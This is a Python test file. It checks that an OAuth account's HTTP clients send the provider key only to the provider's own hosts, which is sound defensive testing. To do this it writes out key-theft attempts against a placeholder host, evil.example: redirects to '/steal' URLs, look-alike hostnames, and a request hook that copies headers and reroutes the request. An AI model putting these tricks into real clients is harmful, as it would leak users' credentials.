"""An account's HTTP clients send its key to the provider's hosts only, whatever an author sets."""

from collections.abc import Callable, Coroutine
from datetime import datetime
from typing import Any

import httpx
import pytest

from flows.oauth.account import Account, account_of
from webapp.http.client import Outbound, Transport

HUB = "https://api.acme.example"
EVIL = "https://evil.example"
KEY = "k-4711-secret"
BASIC = "YWRhOmstNDcxMS1zZWNyZXQ="  # ada:k-4711-secret
CARRIERS: dict[str, dict[str, Any]] = {
    "access token": {},
    "key in its own header": {"header": "X-Acme-Key", "scheme": ""},
    "key in the query": {"query": "api_key"},
    "user and password": {"scheme": "Basic"},
}
AWAY = [
    f"{EVIL}/steal",
    "http://api.acme.example/steal",
    "https://api.acme.example:8443/steal",
    "https://api.acme.example.evil.example/steal",
    f"{HUB}@evil.example/steal",
]


class Net(Transport):
    """A network that redirects /away to `away`, and records each request."""

    def __init__(self, away: str = f"{EVIL}/steal") -> None:
        self.sent: list[httpx.Request] = []
        self.away = away

    def handle_request(self, request: httpx.Request) -> httpx.Response:
        request.read()
        self.sent.append(request)
        path = request.url.path
        if path.startswith("/away"):
            return httpx.Response(307, headers={"location": self.away})
        if path == "/back":
            return httpx.Response(302, headers={"location": f"{HUB}/transfer"})
        return httpx.Response(200)

    async def handle_async_request(self, request: httpx.Request) -> httpx.Response:
        return self.handle_request(request)

    @property
    def with_key(self) -> list[str]:
        """The addresses, without the query, of the requests that contained the key anywhere."""
        return [
            f"{one.url.scheme}://{one.url.netloc.decode()}{one.url.path}"
            for one in self.sent
            if any(
                key in part
                for key in (KEY, BASIC)
                for part in (one.url.raw_path.decode(), repr(one.headers.raw))
            )
        ]


class Reach:
    def __init__(self, net: Net) -> None:
        self._outbound = Outbound(None, allow_loopback=False, transport=net)

    def client(self, **given: Any) -> httpx.AsyncClient:
        return self._outbound.client(**given)

    def sync_client(self, **given: Any) -> httpx.Client:
        return self._outbound.sync_client(**given)

    def now(self) -> datetime:
        raise AssertionError

    def wait(self, work: Coroutine[Any, Any, Any]) -> Any:
        raise AssertionError(work)

    async def renew(self, connection: str, refused: str) -> tuple[str, str | None] | None:
        raise AssertionError(connection)

    async def invalidate(self, connection: str, refused: str) -> None:
        raise AssertionError(connection)

    async def spend(self, receipt_id: str) -> Any:
        raise AssertionError(receipt_id)

    async def refund(self, receipt_id: str, *, reason: str | None) -> Any:
        raise AssertionError(receipt_id)


def account_at(net: Net, carrier: str) -> Account:
    content = {
        "provider": "acme",
        "id": "1",
        "label": "ada",
        "scopes": [],
        "access_token": BASIC if carrier == "user and password" else KEY,
        "carrier": CARRIERS[carrier],
        "api": HUB,
        "api_hosts": [HUB],
    }
    return account_of(content, Reach(net))  # type: ignore[arg-type]


def _replaces_hooks(api: httpx.Client | httpx.AsyncClient, hook: Any) -> None:
    api.event_hooks = {"request": [hook], "response": []}


def _adds_hook(api: httpx.Client | httpx.AsyncClient, hook: Any) -> None:
    api.event_hooks["request"].append(hook)


def _clears_hooks(api: httpx.Client | httpx.AsyncClient, _: Any) -> None:
    api.event_hooks = {}


@pytest.fixture(params=CARRIERS)
def carrier(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.mark.parametrize("away", AWAY)
@pytest.mark.parametrize("change", [_replaces_hooks, _adds_hook, _clears_hooks])
async def test_key_stays_at_provider_whatever_hooks_the_author_sets(
    carrier: str, away: str, change: Callable[..., None]
) -> None:
    net = Net(away)

    async def hook(_: httpx.Request) -> None:
        pass

    async with account_at(net, carrier).client() as api:
        api.follow_redirects = True
        change(api, hook)
        await api.get("/away")
    assert net.with_key == [f"{HUB}/away"]
    assert len(net.sent) == 2


@pytest.mark.parametrize("change", [_replaces_hooks, _adds_hook])
def test_hook_that_moves_or_copies_request_gets_no_key(
    carrier: str, change: Callable[..., None]
) -> None:
    net = Net()

    def hook(request: httpx.Request) -> None:
        for name, value in [*request.headers.items()]:
            request.headers[f"x-copy-{name}"] = f"copy:{value}"
        request.url = request.url.copy_with(host="evil.example")

    with account_at(net, carrier).sync_client() as api:
        change(api, hook)
        api.get("/me")
    assert [one.url.host for one in net.sent] == ["evil.example"]
    assert net.with_key == []


async def test_key_that_an_author_adds_to_requests_reaches_no_other_host(carrier: str) -> None:
    net = Net()
    account = account_at(net, carrier)
    token = account.access_token
    async with account.client() as api:
        api.follow_redirects = True
        api.headers["X-Mine"] = token
        api.params = {"mine": token}
        await api.get("/away", headers={"Authorization": f"Bearer {token}"})
        await api.get(f"{EVIL}/b", headers=[("x-more", "1"), ("x-more", token)])
        api.base_url = EVIL
        await api.get("/c")
    assert len(net.sent) == 4
    assert net.with_key == [f"{HUB}/away"]


async def test_password_that_an_author_passes_as_auth_reaches_no_other_host() -> None:
    net = Net()
    async with account_at(net, "user and password").client() as api:
        await api.get(f"{EVIL}/a", auth=("ada", KEY))
        await api.get(f"{EVIL}/a", auth=("ada", "another"))
    assert net.with_key == []
    assert ["authorization" in one.headers for one in net.sent] == [False, True]


@pytest.mark.parametrize("path", ["/a", "/b?x=1"])
async def test_base_url_of_another_host_gets_no_key(carrier: str, path: str) -> None:
    net = Net()
    async with account_at(net, carrier).client() as api:
        api.base_url = EVIL
        await api.get(path)
        api.base_url = HUB
        await api.get(path)
    assert net.with_key == [f"{HUB}{path.partition('?')[0]}"]


async def test_request_that_left_the_provider_comes_back_without_key(carrier: str) -> None:
    net = Net(f"{EVIL}/back")
    async with account_at(net, carrier).client() as api:
        api.follow_redirects = True
        await api.get("/away")
        assert [one.url.path for one in net.sent] == ["/away", "/back", "/transfer"]
        assert net.with_key == [f"{HUB}/away"]
        await api.get("/away/next")
    assert f"{HUB}/away/next" in net.with_key


async def test_redirect_within_provider_has_key(carrier: str) -> None:
    net = Net(f"{HUB}/moved")
    async with account_at(net, carrier).client() as api:
        await api.post("/away", json={}, follow_redirects=True)
    assert net.with_key == [f"{HUB}/away", f"{HUB}/moved"]
    assert net.sent[1].content == b"{}"


@pytest.mark.parametrize("proxied", ["https://api.acme.example", "https://evil.example"])
def test_on_wire_sees_every_request_even_if_a_proxy_is_configured(
    proxied: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # An HTTPS proxy gets a tunnel; the transport that would use it is wrapped like any other.
    monkeypatch.setenv("HTTPS_PROXY", "http://proxy.example:3128")
    outbound = Outbound(None, allow_loopback=False)
    seen = list[httpx.Request]()

    def on_wire(request: httpx.Request) -> httpx.Request:
        seen.append(request)
        raise httpx.ConnectError("no network in tests")

    with outbound.sync_client(base_url=HUB, auth=httpx.Auth(), on_wire=on_wire) as api:
        for url in (f"{proxied}/x", "http://127.0.0.1:1/x"):
            with pytest.raises(httpx.ConnectError, match="no network"):
                api.get(url)
    assert len(seen) == 2


async def test_explicit_other_authentication_is_used_instead_of_key(carrier: str) -> None:
    net = Net()
    async with account_at(net, carrier).client() as api:
        await api.get("/me", auth=("someone", "else"))
        api.auth = None  # type: ignore[assignment]
        await api.get("/me")
    assert net.with_key == []
    assert net.sent[0].headers["authorization"].startswith("Basic ")


async def test_requests_that_an_author_can_inspect_do_not_contain_the_key(carrier: str) -> None:
    net = Net()
    seen = list[str]()

    async def hook(request: httpx.Request) -> None:
        seen.append(f"{request.url} {request.headers.raw!r} {request.extensions!r}")

    async with account_at(net, carrier).client() as api:
        api.event_hooks = {"request": [hook]}
        reply = await api.get("/me")
        seen.append(f"{reply.request.url.raw_path!r} {reply.request.headers.raw!r}")
        seen.append(repr(reply.request.extensions))
    assert net.with_key == [f"{HUB}/me"]
    assert not [text for text in seen if KEY in text or BASIC in text]
